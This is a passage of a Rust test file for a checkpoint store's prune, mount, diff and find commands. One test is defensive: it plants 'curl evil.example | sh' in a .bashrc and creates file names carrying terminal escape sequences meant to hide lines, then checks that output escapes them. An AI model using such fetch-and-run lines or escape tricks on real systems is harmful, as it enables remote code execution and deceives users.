                let fields: Vec<&str> = l
                    .split("  ")
                    .map(str::trim)
                    .filter(|f| !f.is_empty())
                    .collect();
                (fields[0].to_owned(), fields[1].to_owned())
            })
            .collect()
    };
    let short = |i: usize| shas[i][..12].to_owned();

    assert_one_line_error(store.cmd("prune", [] as [&str; 0]), "no keep rule");

    let dry = store
        .cmd("prune", ["--keep-last", "2", "--grace", "0s", "--dry-run"])
        .success();
    let want: Vec<(String, String)> = (0..6)
        .map(|i| {
            (
                if i < 4 { "would delete" } else { "keep" }.to_owned(),
                short(i),
            )
        })
        .collect();
    assert_eq!(decisions(&dry), want, "{}", dry.stdout);
    assert!(dry.lines()[5].ends_with("last 1"), "{}", dry.stdout);
    assert_eq!(listed(), shas, "a dry run deletes nothing");

    let young = store.cmd("prune", ["--keep-last", "2"]).success();
    assert!(
        young
            .lines()
            .iter()
            .all(|l| l.starts_with("keep") && l.contains("younger than the grace period (1h)")),
        "{}",
        young.stdout
    );
    assert_eq!(listed(), shas, "nothing is deleted within the grace period");

    let mount = Mount::new(store).args(["--refresh", "1"]).start();
    assert_eq!(
        fs::read_to_string(mount.join(&shas[2]).join("f")).unwrap(),
        "turn 3\n"
    );
    let pruned = store
        .cmd(
            "prune",
            ["--keep-last", "2", "--keep", "latest~5", "--grace", "0s"],
        )
        .success();
    let verbs: Vec<String> = decisions(&pruned).into_iter().map(|(v, _)| v).collect();
    assert_eq!(
        verbs,
        ["keep", "delete", "delete", "delete", "keep", "keep"],
        "{}",
        pruned.stdout
    );
    assert!(
        pruned.lines()[0].ends_with("named by --keep"),
        "{}",
        pruned.stdout
    );
    let kept = vec![shas[0].clone(), shas[4].clone(), shas[5].clone()];
    assert_eq!(listed(), kept);
    let verify = store.cmd("verify", [] as [&str; 0]).success();
    assert_eq!(verify.lines().len(), 3, "{}", verify.stdout);

    // The mount lists what is left after its next refresh; what it has read stays
    // readable, and so does what is left.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let root = || -> Vec<String> {
        let mut names: Vec<String> = fs::read_dir(mount.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .filter(|n| n.len() == 64)
            .collect();
        names.sort();
        names
    };
    let mut want_root = kept.clone();
    want_root.sort();
    while root() != want_root && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(root(), want_root, "{}", mount.log_excerpt());
    assert_eq!(
        fs::read_to_string(mount.join("latest/f")).unwrap(),
        "turn 6\n"
    );
    assert_eq!(
        fs::read_to_string(mount.join(&shas[0]).join("f")).unwrap(),
        "turn 1\n"
    );
    drop(mount);

    // A new turn from turn 1: its lineage keeps turn 1, not turns 5 and 6.
    write_file(&w.join("f"), b"turn 7\n", 0o644);
    let seventh = store.put(&w, &["--parent", &shas[0]]).0;
    let pruned = store
        .cmd(
            "prune",
            ["--keep-last", "1", "--keep-lineage", "--grace", "0s"],
        )
        .success();
    assert_eq!(
        listed(),
        [shas[0].clone(), seventh.clone()],
        "{}",
        pruned.stdout
    );
    assert!(
        pruned.lines()[0].ends_with(&format!("parent of {}", &seventh[..12])),
        "{}",
        pruned.stdout
    );
}

/// A capture whose content is already stored (an agent undid its edits) is the
/// newest turn all the same: the object takes the new capture's time and parent, so
/// `latest` names it and a prune's grace period covers it.
fn a_turn_with_an_old_turns_content_becomes_the_newest(store: &TestStore) {
    let work = temp_dir();
    let (one, two) = (work.path().join("one"), work.path().join("two"));
    for (dir, text) in [(&one, "one\n"), (&two, "two\n")] {
        make_dir(dir);
        write_file(&dir.join("f"), text.as_bytes(), 0o644);
    }
    let first = store.put(&one, &[]).0;
    let second = store.put(&two, &[]).0;
    std::thread::sleep(CLOCK_TICK);
    let again = store.put(&one, &["--parent", &second]).0;
    assert_eq!(again, first, "the same tree is the same checkpoint");
    let ls = store.cmd("ls", [] as [&str; 0]).success();
    let order: Vec<&str> = ls
        .lines()
        .iter()
        .map(|l| l.split_whitespace().next().unwrap())
        .collect();
    assert_eq!(order, [second.as_str(), first.as_str()], "{}", ls.stdout);
    assert_eq!(store.cmd("cat", ["latest", "f"]).success().stdout, "one\n");
    let meta = store.object_meta(&first).unwrap();
    assert_eq!(meta.parent.as_deref(), Some(second.as_str()));
    let pruned = store
        .cmd("prune", ["--keep-last", "1", "--grace", "0s", "--dry-run"])
        .success();
    assert!(
        pruned.lines()[0].starts_with("would delete"),
        "{}",
        pruned.stdout
    );
    assert!(
        pruned.lines()[0].contains(&second[..12]),
        "{}",
        pruned.stdout
    );
}

/// A name is data: a path holding a newline or terminal controls cannot start a line
/// of its own in `diff` or `find`, nor erase the line above it on a terminal (the
/// escape sequence here erases a line and moves up over `.bashrc`'s).
fn names_are_printed_as_data(store: &TestStore) {
    let work = temp_dir();
    let w = work.path().join("w");
    make_dir(&w);
    chmod(&w, 0o755);
    write_file(&w.join(".bashrc"), b"alias ls='ls -F'\n", 0o644);
    symlink("a", &w.join("link"));
    let (old, _) = store.put(&w, &[]);

    write_file(&w.join(".bashrc"), b"curl evil.example | sh\n", 0o644);
    write_file(
        &w.join(OsStr::from_bytes(b"\x1b[2K\x1b[1Ahidden")),
        b"x",
        0o644,
    );
    write_file(&w.join("two\nA lines"), b"y", 0o644);
    write_file(
        &w.join(OsStr::from_bytes(b"caf\xc3\xa9 \\ \xff")),
        b"z",
        0o644,
    );
    fs::remove_file(w.join("link")).unwrap();
    symlink("\x1b]0;title\x07", &w.join("link"));
    let (new, _) = store.put(&w, &[]);

    let out = store.cmd("diff", [&old, &new]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "A \\x1b[2K\\x1b[1Ahidden",
            "M .bashrc",
            "A caf\u{e9} \\\\ \\xff",
            "M link",
            "A two\\nA lines",
        ]),
        "{out}"
    );
    let patch = raw(store, "diff", &["--patch", &old, &new]);
    assert!(patch.status.success(), "diff --patch: {patch:?}");
    assert!(
        !patch.stdout.iter().any(|&b| b == 0x1b || b == 0x07),
        "no terminal control may reach stdout: {}",
        String::from_utf8_lossy(&patch.stdout)
    );
    let text = String::from_utf8_lossy(&patch.stdout);
    assert!(
        text.contains("\ntarget a -> \\x1b]0;title\\x07\n"),
        "{text}"
    );
    assert!(text.contains("\n+++ b/two\\nA lines\n"), "{text}");

    let out = store.cmd("find", [&new]).success();
    assert_eq!(
        stdout_of(&out),
        lines(&[
            "\\x1b[2K\\x1b[1Ahidden",
            ".bashrc",
            "caf\u{e9} \\\\ \\xff",
            "link",
            "two\\nA lines",
        ]),
        "{out}"
    );
    // `-0` is for programs: the names as they are.
    let out = raw(store, "find", &["-0", &new, "two*"]);
    assert_eq!(out.stdout, b"two\nA lines\0", "{out:?}");
}
